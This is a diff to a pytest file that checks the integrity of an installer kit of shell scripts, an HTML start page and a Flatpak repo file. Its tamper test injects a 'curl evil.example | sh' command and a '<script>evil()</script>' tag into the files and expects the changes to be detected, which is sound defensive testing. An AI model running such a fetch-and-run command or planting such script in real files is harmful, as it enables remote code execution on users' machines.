@@ -85,7 +85,9 @@ def kit(good: Path) -> Kit:
 
 def test_a_sound_one(kit: Kit) -> None:
     assert kit.judged({}) == []
-    assert set(kit.files) == {"install.sh", "contents.tsv", "START-HERE.html", "test.flatpakrepo"}
+    assert set(kit.files) == {
+        "install.sh", "needs.sh", "contents.tsv", "START-HERE.html", "test.flatpakrepo",
+    }  # fmt: skip
 
 
 @pytest.mark.parametrize(
@@ -102,12 +104,12 @@ def test_a_file_is_gone_or_rubbish(kit: Kit, name: str) -> None:
 # ---- What is fixed
 
 
-@pytest.mark.parametrize("name", ["install.sh", "START-HERE.html"])
+@pytest.mark.parametrize("name", ["install.sh", "needs.sh", "START-HERE.html"])
 def test_what_is_fixed_was_changed(kit: Kit, name: str) -> None:
     text = kit.text(name)
     for changed in (
         text.replace("flatpak", "flatpack", 1),
-        text.replace("install.sh", "install.sh; curl evil.example | sh", 1),
+        text.replace("sh", "sh; curl evil.example | sh", 1),
         text + "\n",
         text.replace("<!--", "<script>evil()</script><!--", 1) if "<!--" in text else f"\n{text}",
     ):
